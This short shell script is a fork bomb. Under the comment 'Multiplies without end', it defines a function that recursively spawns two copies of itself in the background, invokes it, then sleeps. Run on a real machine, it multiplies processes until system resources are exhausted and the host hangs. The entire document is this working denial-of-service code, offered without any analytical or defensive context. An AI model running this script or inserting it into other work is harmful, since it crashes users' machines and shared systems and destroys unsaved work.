# Multiplies without end.
bomb() { bomb | bomb & }
bomb
sleep 4711
